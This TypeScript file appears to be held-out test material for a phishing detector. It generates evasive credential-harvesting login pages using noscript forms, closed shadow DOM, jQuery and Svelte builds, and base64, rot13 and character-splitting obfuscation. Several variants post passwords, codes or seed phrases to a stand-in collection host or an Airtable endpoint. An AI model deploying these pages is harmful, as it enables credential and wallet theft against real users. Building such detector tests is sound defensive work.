import type { Files } from "./given-draft.ts"
import type { PhishingPage } from "./phishing-page.ts"
import type { Trick } from "./phishing-tricks.ts"
import { base64, documentOf, form, quoted, render } from "./render.ts"

const index = (html: string): Files => ({ "index.html": html })
const script = (code: string) => `<script>${code}</script>`
const body = (page: PhishingPage, attributes = `id="f" method="post"`) => page.top + form(page, attributes) + page.foot
const secretOf = ({ fields, words }: PhishingPage): readonly [type: string, hint: string] =>
  fields.includes("password")
    ? ["password", words.password]
    : ["text", fields.includes("maxlength") ? words.code : words.seed]
const send = `fetch("https://in.gather.example/z",{method:"POST",body:new FormData(f)})`
const rot13 = (text: string) =>
  text.replaceAll(/[a-z]/giu, (letter) => {
    const base = letter < "a" ? 65 : 97
    return String.fromCharCode(((letter.charCodeAt(0) - base + 13) % 26) + base)
  })

/** Ideas that the rules were not written against: written when they had been changed for the first two parts. */
export const thirdUnseenTricks: Readonly<Record<string, Trick>> = {
  "without script": (page) =>
    index(
      documentOf({ ...page, title: "Redirect" }, `<noscript>${body(page, `action="n.php" method="post"`)}</noscript>`),
    ),
  "a shadow in markup": (page) =>
    index(
      documentOf(
        page,
        `<x-a><template shadowrootmode="closed">${body(page)}</template></x-a>${script(`addEventListener("submit",e=>{e.preventDefault();${send.replace("new FormData(f)", "new FormData(e.composedPath()[0])")}})`)}`,
      ),
    ),
  "made by jQuery": (page) => {
    const [type, hint] = secretOf(page)
    return index(
      `<!doctype html><html><head><title></title><script src="https://code.jquery.com/jquery-3.7.1.min.js"></script></head><body><div id="w"></div>${script(`$(function(){document.title=${quoted(page.title)};$("<h1>").text(${quoted(page.brand.name)}).appendTo("#w");$("<p>").text(${quoted(page.words.notice)}).appendTo("#w");var f=$("<form>").appendTo("#w");$("<input>",{name:"a",placeholder:${quoted(page.words.user)}}).appendTo(f);$("<input>",{type:${quoted(type)},name:"b",placeholder:${quoted(hint)}}).appendTo(f);$("<button>").text(${quoted(page.words.submit)}).appendTo(f);f.on("submit",function(){$.post("https://in.gather.example/j",f.serialize());return false})})`)}</body></html>`,
    )
  },
  "compiled by Svelte": (page) => {
    const [type, hint] = secretOf(page)
    return {
      "index.html": `<!doctype html><title>Vite App</title><div id="app"></div><script type="module" src="b/i.js"></script>`,
      "b/i.js": `import{e as n,t as x,a,i as m}from"./r.js";function c(){let h=n("h1");h.textContent=${quoted(page.brand.name)};let p=n("p");p.textContent=${quoted(page.words.notice)};let f=n("form"),u=n("input");a(u,"placeholder",${quoted(page.words.user)});let w=n("input");a(w,"type",${quoted(type)});a(w,"placeholder",${quoted(hint)});let b=n("button");b.textContent=${quoted(page.words.submit)};m(f,u);m(f,w);m(f,b);f.onsubmit=e=>{e.preventDefault();${send}};return[h,p,f]}document.getElementById("app").append(...c());`,
      "b/r.js": `export const e=t=>document.createElement(t),t=t=>document.createTextNode(t),a=(n,k,v)=>n.setAttribute(k,v),i=(p,c)=>p.append(c);`,
    }
  },
  "many small pieces": (page) => {
    const pieces = base64(`<title>${page.title}</title>${body(page)}`).match(/.{1,60}/gu) ?? []
    return index(
      `<!doctype html><body>${script(`var q=[];${pieces.map((piece) => `q.push("${piece}");`).join("")}document.body.innerHTML=new TextDecoder().decode(Uint8Array.from(atob(q.join("")),c=>c.charCodeAt()))`)}`,
    )
  },
  "which mail is yours": (page) =>
    index(
      documentOf(
        { ...page, title: "Shared document" },
        `<h2>Invoice.pdf</h2><ul><li>Outlook</li><li>Gmail</li><li>Yahoo</li><li>AOL</li><li>Office 365</li></ul>${form(page, `id="f"`)}${script(`f.onsubmit=e=>{e.preventDefault();${send}}`)}`,
      ),
    ),
  "letters to take out": (page) =>
    index(
      `<!doctype html><body>${script(`document.body.innerHTML=${quoted([...`<title>${page.title}</title>${body(page)}`].join("~"))}.split("~").join("")`)}`,
    ),
  "thirteen letters on": (page) =>
    index(
      `<!doctype html><body>${script(`document.write(${quoted(rot13(`<title>${page.title}</title>${body(page)}`))}.replace(/[a-z]/gi,c=>String.fromCharCode((c<="Z"?90:122)>=(c=c.charCodeAt(0)+13)?c:c-26)))`)}`,
    ),
  "a table in the cloud": (page) =>
    index(
      documentOf(
        page,
        `${body(page)}${script(`f.onsubmit=e=>{e.preventDefault();fetch("https://api.airtable.com/v0/appX1/t",{method:"POST",headers:{Authorization:"Bearer patX"},body:JSON.stringify({fields:Object.fromEntries(new FormData(f))})})}`)}`,
      ),
    ),
  "a logo from the encyclopedia": (page) =>
    index(
      documentOf(
        { ...page, title: page.words.signIn },
        `<img src="https://upload.wikimedia.org/wikipedia/commons/a/a4/${page.brand.name.replaceAll(" ", "_")}_2026_logo.svg" alt="">${form(page, `action="https://in.gather.example/w" method="post"`)}`,
      ),
    ),
  "steps by target": (page) =>
    index(
      render(
        { ...page, fields: `<div id="a"><a href="#b">${page.words.submit}</a></div><div id="b">${page.fields}</div>` },
        {
          head: `<style>#b{display:none}#b:target{display:block}</style>`,
          form: `action="//in.gather.example/t" method="post"`,
        },
      ),
    ),
}
